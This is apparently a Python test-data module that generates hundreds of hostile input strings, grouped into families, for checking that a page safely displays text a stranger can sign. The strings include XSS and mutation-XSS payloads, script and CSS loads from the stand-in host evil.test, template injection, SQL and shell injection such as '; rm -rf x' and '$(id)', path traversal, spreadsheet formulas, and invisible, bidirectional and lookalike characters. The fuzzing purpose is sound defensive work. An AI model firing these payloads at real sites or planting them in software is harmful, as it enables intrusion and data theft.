"""Texts that a stranger may sign and a page must show as text, made by families.

Enters: nothing. Leaves: more than five hundred different texts, always the same ones, each with its
family. Whatever one of them could bring about names it: a dialog says its number, a request goes to
`evil.test/NUMBER`, an element carries `id=hostile`. None is taken from a list of others.
"""

# ruff: noqa: RUF001 - letters that look like others are what some of these texts are about
from __future__ import annotations

import itertools
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

FOREIGN = "evil.test"


@dataclass(frozen=True)
class Hostile:
    """One text."""

    family: str
    text: str

    def fits(self, chars: int) -> bool:
        """Tell whether it fits into a field."""
        return 0 < len(self.text) <= chars


def _html(n: Iterator[int]) -> Iterator[str]:
    yield from (f"<script>alert({next(n)})</script>", f"<SCRIPT>alert({next(n)})</SCRIPT>")
    yield from (f"<script src=//{FOREIGN}/{next(n)}></script>", "<script>", "</script>", "<!--")
    elements = {
        "img src=x": ("onerror",),
        "svg": ("onload",),
        "body": ("onload", "onpageshow"),
        "details open": ("ontoggle",),
        "input autofocus": ("onfocus", "onblur"),
        "video src=x": ("onerror", "onloadstart"),
        "audio src=x": ("onerror",),
        "iframe": ("onload",),
        "object data=x": ("onerror",),
        "marquee": ("onstart", "onfinish"),
        "select autofocus": ("onfocus",),
        "p": ("onclick", "onmouseover", "onpointerenter", "onanimationend"),
    }
    for element, events in elements.items():
        for event in events:
            yield f"<{element} id=hostile {event}=alert({next(n)})>"
            yield f'<{element.upper()} {event.upper()}="alert({next(n)})">'
    for gap in ("/", "\t", "\n", "\f", "\r", "\x0b", "//"):
        yield f"<svg{gap}onload=alert({next(n)})>"
    for tag in ("b", "h1", "a href=/revoke", "form action=/v1/revoke", "button", "table", "main"):
        yield f"<{tag} id=hostile>x</{tag.split()[0]}>"
    yield from ("<b>", "<", ">", "<>", "</", "<?xml ?>", "<!doctype html>", "<![CDATA[x]]>")


def _attributes(n: Iterator[int]) -> Iterator[str]:
    ends = ['"', "'", "`", '">', "'>", '"/>', '\\"', "&quot;", "&#39;", '" x="', "' x='"]
    for end in ends:
        yield f"{end} onmouseover=alert({next(n)}) "
        yield f"{end}<img src=x onerror=alert({next(n)})>"
        yield f"{end} autofocus onfocus=alert({next(n)}) "


def _urls(n: Iterator[int]) -> Iterator[str]:
    call = "alert({})"
    schemes = [
        *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:"),
        *("\x01javascript:", "javascript&colon;", "javascript%3A", "vbscript:", "livescript:"),
        *("javascript://%0a", "view-source:javascript:", "feed:javascript:"),
    ]
    for scheme in schemes:
        yield scheme + call.format(next(n))
        yield f"<a id=hostile href='{scheme}{call.format(next(n))}'>x</a>"
    for kind in ("text/html", "image/svg+xml", "text/html;base64", "application/xhtml+xml"):
        yield f"data:{kind},<script>alert({next(n)})</script>"
    for start in ("//", "\\\\", "/\\", "https:", "http:///", "https://x@", "/%2f", "ftp://", "///"):
        yield f"{start}{FOREIGN}/{next(n)}"
    yield from (
        f"blob:http://{FOREIGN}/{next(n)}",
        f"ws://{FOREIGN}/{next(n)}",
        "file:///etc/hosts",
    )
    yield from (
        "intentcast://join/x",
        "mailto:x@evil.test?bcc=y@evil.test",
        "tel:+0",
        "about:blank",
    )


def _trees(n: Iterator[int]) -> Iterator[str]:
    """Markup that a second parsing reads otherwise than the first."""
    payload = "<img src=x onerror=alert({})>"
    wraps = [
        "<math><mtext><table><mglyph><style>{}",
        "<svg></p><style><a id='</style>{}'>",
        '<noscript><p title="</noscript>{}">',
        "<template>{}</template>",
        "<form><math><mtext></form><form><mglyph><style></math>{}",
        "<svg><foreignObject>{}</foreignObject></svg>",
        "<svg><desc><![CDATA[</desc>{}]]></svg>",
        "<textarea></textarea>{}",
        "<title></title>{}",
        "<xmp></xmp>{}",
        "<select><option></select>{}",
        "<!--><{}-->",
        "<!-- --!>{}",
        "<plaintext>{}",
        "<frameset>{}",
        "<svg><use href='data:image/svg+xml,{}'>",
        "<svg><animate onbegin=alert({})>",
        "<svg><set attributeName=href to='javascript:alert({})'>",
        "<math href='javascript:alert({})'>x",
        "<base href=//evil.test/>{}",
        "<meta http-equiv=refresh content='0;url=//evil.test/{}'>",
        "<link rel=stylesheet href=//evil.test/{}>",
        "<embed src=//evil.test/{}>",
        "<iframe srcdoc='&lt;script&gt;alert({})&lt;/script&gt;'>",
        "<portal src=//evil.test/{}>",
        "<input type=image src=//evil.test/{}>",
    ]
    for wrap in wraps:
        yield wrap.format(payload.format(next(n)) if wrap.endswith("{}") else next(n))


def _styles(n: Iterator[int]) -> Iterator[str]:
    for rule in (
        "</style><script>alert({})</script>",
        "<style>*{{background:url(//evil.test/{})}}</style>",
        "<style>@import '//evil.test/{}';</style>",
        "<p style='position:fixed;inset:0;background:url(//evil.test/{})'>",
        "x;background:url(//evil.test/{})",
        "red;}}body{{display:none}}/*{}",
        "expression(alert({}))",
        "url(javascript:alert({}))",
        "\\65xpression(alert({}))",
        "@font-face{{src:url(//evil.test/{})}}",
        "-moz-binding:url(//evil.test/{})",
        "var(--x,url(//evil.test/{}))",
    ):
        yield rule.format(next(n))


def _templates(n: Iterator[int]) -> Iterator[str]:
    inner = [
        *("7*7", "config", "self", "request", "''.__class__.__mro__[1].__subclasses__()"),
        *("constructor.constructor('alert(1)')()", "range(10**9)", "lipsum.__globals__"),
        *("_('x')|safe", "node.token", "x.__init__.__globals__", "cycler.next()"),
    ]
    marks = [("{{", "}}"), ("{%", "%}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("[[", "]]")]
    for (start, end), each in itertools.product(marks, inner):
        yield f"{start}{each}{end}"
    yield from ("{#", "{% raw %}", "{% endblock %}", "{{", "}}", "${", "{% include '/etc/hosts' %}")
    yield from (f"{{{{'<script>alert({next(n)})</script>'|safe}}}}", "{% autoescape false %}")


def _scripts(n: Iterator[int]) -> Iterator[str]:
    for start in (
        "';",
        '";',
        "`;",
        "\\';",
        "*/",
        "//\n",
        "\u2028",
        "\u2029",
        "});",
        "\\",
        "${`",
        "-->",
    ):
        yield f"{start}alert({next(n)})//"
    for close in ("</script>", "</ScRiPt >", "</script\t>", "</script/x>", "<!--<script>", "]]>"):
        yield f"{close}<script>alert({next(n)})</script>"
    for escaped in ("\\u003cscript\\u003e", "\\x3cscript\\x3e", "\\74script\\76", "%3Cscript%3E"):
        yield f"{escaped}alert({next(n)}){escaped}"
    for escaped in (
        "&lt;script&gt;",
        "&#60;script&#62;",
        "&#x3c;script&#x3e;",
        "&amp;lt;script&gt;",
    ):
        yield f"{escaped}alert({next(n)}){escaped}"
    yield from ("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\uff1cscript\uff1ealert(1)")
    yield from (
        "&NewLine;",
        "&Tab;",
        "&nbsp;",
        "&#0;",
        "&#xD800;",
        "&",
        "&&amp;",
        "&amp",
        "&bogus;",
    )


def _directions(_: Iterator[int]) -> Iterator[str]:
    marks = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    for mark in marks:
        yield f"total {mark}00.1 USD{mark} paid"
        yield f"{mark * 8}gpj.exe"
    yield "\u202e" + "txet desrever"
    yield "\u2066\u2067\u2068" * 20 + "open and never closed"


def _invisible(_: Iterator[int]) -> Iterator[str]:
    unseen = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u115f\u3164\u2800\u17b4\u00a0\u3000"
    for mark in unseen:
        yield f"pay{mark}pal"
        yield mark * 30
    yield "x" + "\u200b" * 100 + "y"
    yield "\U000e0041\U000e0042\U000e0043"
    yield "a\ufe0f\ufe0e\ufe0f"


def _controls(_: Iterator[int]) -> Iterator[str]:
    for code in (*range(32), *range(127, 160)):
        yield f"a{chr(code)}b"
    yield from ("\x00", "\x00<b>", "x\x00\x00\x00y", "\r\nSet-Cookie: a=b\r\n\r\n<b>x", "\x08" * 40)
    yield from (
        "\n" * 60 + "below",
        "\t" * 60 + "right",
        "\r\n" * 30,
        "\x1a\x04\x03",
        "\ufffe\uffff",
    )


def _terminals(_: Iterator[int]) -> Iterator[str]:
    for sequence in (
        "[31m",
        "[2J",
        "[1;1H",
        "]0;owned\x07",
        "]8;;http://evil.test\x07x",
        "c",
        "[?25l",
    ):
        yield f"\x1b{sequence}text"
        yield f"\x9b{sequence[1:]}text"
    yield '\x1bP$q"p\x1b\\'


def _pictures(_: Iterator[int]) -> Iterator[str]:
    yield from (
        "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
        "\U0001f44d\U0001f3ff",
    )
    yield from (
        "\U0001f1e9\U0001f1ea",
        "\U0001f1e9",
        "1\ufe0f\u20e3",
        "\U0001f3f4\U000e0067\U000e007f",
    )
    yield from (
        "\U0001f4a9" * 40,
        "\u2705 Signed by both sides",
        "\u26a0\ufe0f",
        "\U0001f512 checked",
    )
    yield from ("\U0001f600\u0301", "\u200d\U0001f600", "\U0001f926\U0001f3fb\u200d\u2642\ufe0f")


def _scripts_of_the_world(_: Iterator[int]) -> Iterator[str]:
    yield from ("السعر 100$ فقط", "מחיר 100 ש״ח", "שלום <b>עולם</b>", "مرحبا\u202eabc", "۱۲۳۴٫۵۶ ﷼")
    yield from (
        "東京の車",
        "กำกวม",
        "ﷺ" * 20,
        "𒐫" * 10,
        "꧅" * 20,
        "ẞß ﬁ ǆ ŉ",
        "İıIi",
        "नमस्ते",
        "ಠ_ಠ",
    )
    for mark in ("\u0301", "\u0489", "\u20dd", "\u0e47", "\u1ab0"):
        yield "z" + mark * 60 + "algo"
        yield mark * 20 + "a mark first"


def _lookalikes(_: Iterator[int]) -> Iterator[str]:
    yield from ("раураl.соm", "іntentcast", "gооgle", "Ｔｏｔａｌ ０.００", "𝗧𝗼𝘁𝗮𝗹 𝟬", "𝓿𝓮𝓷𝓭𝓸𝓻")
    yield from (
        "evil.test⁄safe.example",
        "safe。example",
        "safe․example",
        "１２７.0.0.1",
        "ⓔⓥⓘⓛ",
        "l1I|",
    )
    yield from (
        "－100 USD",
        "−100 USD",
        "1٬000",
        "1’000",
        "٠",
        "O.OO USD",
        "0,00 €",
        "1.000.000,00",
    )


def _objects(n: Iterator[int]) -> Iterator[str]:
    yield from ("__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty")
    yield from (
        "__defineGetter__",
        "isPrototypeOf",
        "length",
        "name",
        "innerHTML",
        "cookie",
        "forms",
    )
    yield from (
        "__class__",
        "__init__",
        "__dict__",
        "__builtins__",
        "self",
        "this",
        "then",
        "toJSON",
    )
    yield from ('{"__proto__":{"x":1}}', '"}', "'}", "\\", '\\"', "\\u0000", "\\ud800", "[]", "{}")
    yield from ("null", "undefined", "true", "NaN", "Infinity", "-0", "1e999", "0x10", "9" * 100)
    yield from ("[object Object]", "function(){}", f"eval('alert({next(n)})')", "=>", "async", "#")
    yield from (
        "<a id=hostile name=forms>",
        "<img name=cookie>",
        "<form id=hostile><input name=action>",
    )
    yield from ("hostile", "window", "document", "location", "top", "parent", "opener", "status")


def _formats(_: Iterator[int]) -> Iterator[str]:
    yield from (
        "%s%s%s%s%n",
        "%(token)s",
        "%d",
        "%",
        "%%",
        "{0}",
        "{}",
        "{0.__class__}",
        "{x!r:>99}",
    )
    yield from (
        "$(id)",
        "`id`",
        "; rm -rf x",
        "| cat",
        "&& true",
        "$HOME",
        "%PATH%",
        "!!",
        "~",
        "*",
    )
    yield from (
        "%00",
        "%0d%0aX: y",
        "%2e%2e%2f",
        "../../../etc/passwd",
        "..\\..\\x",
        "/v1/casts",
        "C:\\",
    )
    yield from ("' OR 1=1--", '" OR ""="', "1; DROP TABLE casts", "*)(uid=*", "x' UNION SELECT 1--")
    yield from ("=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://evil.test")', "\t=1", "'=1")
    yield from (
        "# heading",
        "* list",
        "[x](javascript:alert(1))",
        "![x](//evil.test/x)",
        "```",
        "---",
    )


def _long(_: Iterator[int]) -> Iterator[str]:
    for letter in ("W", "i", "ﷺ", "\u0e01", "-", ".", "/", "&", "<", "\U0001f600", "क्ष", "\u3042"):
        for chars in (40, 80, 160, 1000):
            yield (letter * chars)[:chars]
    yield "word " * 200
    yield " " * 160
    yield "a\u00a0" * 80


def _pretending(_: Iterator[int]) -> Iterator[str]:
    yield from (
        "Total 0.00 USD",
        "✓ Signed by both sides",
        "cheapest",
        "first contact",
        "3 deals with you",
    )
    yield from (
        "You have been logged out. Code:",
        "unknown",
        "none",
        "",
        " ",
        "\n\nTotal: 1 USD",
        "null USD",
    )
    yield from (
        "This offer ends in 1 minute!",
        "Best offer",
        "(must) met",
        "verified",
        "Accept",
        "0",
    )


_FAMILIES: dict[str, Callable[[Iterator[int]], Iterator[str]]] = {
    "html": _html,
    "attributes": _attributes,
    "urls": _urls,
    "trees": _trees,
    "styles": _styles,
    "templates": _templates,
    "scripts": _scripts,
    "directions": _directions,
    "invisible": _invisible,
    "controls": _controls,
    "terminals": _terminals,
    "pictures": _pictures,
    "scripts of the world": _scripts_of_the_world,
    "lookalikes": _lookalikes,
    "objects": _objects,
    "formats": _formats,
    "long": _long,
    "pretending": _pretending,
}


@cache
def hostile_texts() -> tuple[Hostile, ...]:
    """Give all texts, no two alike, the families mixed so that any stretch has some of each."""
    numbers = itertools.count(1000)
    rows = [[Hostile(family, text) for text in made(numbers)] for family, made in _FAMILIES.items()]
    mixed = itertools.chain.from_iterable(itertools.zip_longest(*rows))
    found = {each.text: each for each in mixed if each is not None and each.text}
    return tuple(found.values())


class Supply:
    """Hands out texts in turn to fields of different sizes; nothing is left out for long."""

    def __init__(self, texts: tuple[Hostile, ...] | None = None) -> None:
        self._texts = texts or hostile_texts()
        self._next: dict[int, int] = {}
        self.given: set[str] = set()

    def text(self, chars: int, *, required: bool = True) -> str:
        """Give the next text for fields of so many characters, none of them longer.

        Args:
            chars: most the field holds.
            required: whether it must hold something a person can see.
        """
        fitting = [each for each in self._texts if each.fits(chars)]
        at = self._next.get(chars, 0)
        self._next[chars] = at + 1
        found = fitting[at % len(fitting)].text
        if required and not found.strip():
            return self.text(chars, required=required)
        self.given.add(found)
        return found


def shown(text: str) -> str:
    """Give what must at least be left of a text on a page: letters, marks and signs, in order.

    Spaces, controls, directions and what cannot be seen may be dropped, exchanged or marked.
    """
    return "".join(c for c in text if unicodedata.category(c)[0] not in "CZ")
